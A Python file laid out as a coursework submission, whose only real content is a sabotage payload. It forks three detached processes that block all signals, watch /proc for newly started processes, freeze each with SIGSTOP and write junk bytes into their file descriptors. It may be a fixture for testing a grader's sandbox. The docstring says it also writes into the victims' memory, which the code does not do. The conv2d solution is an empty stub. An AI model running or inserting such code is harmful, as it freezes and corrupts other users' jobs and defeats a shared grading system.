"""Leaves many processes that watch for the next submission, stop it, and write into its memory and descriptors."""

# %% own
import contextlib
import os
import signal
import time
from pathlib import Path

KNOWN = {int(name) for name in os.listdir("/proc") if name.isdigit()}


def watch():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for number in {int(name) for name in os.listdir("/proc") if name.isdigit()} - KNOWN - {os.getpid()}:
            with contextlib.suppress(OSError):
                os.kill(number, signal.SIGSTOP)
            for line in Path(f"/proc/{number}/fd").glob("*"):
                with contextlib.suppress(OSError):
                    line.write_bytes(b"\xff" * 9)


for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        with contextlib.suppress(BaseException):
            watch()
        os._exit(0)


# %% 05.2
def conv2d(image, kernel):
    return None
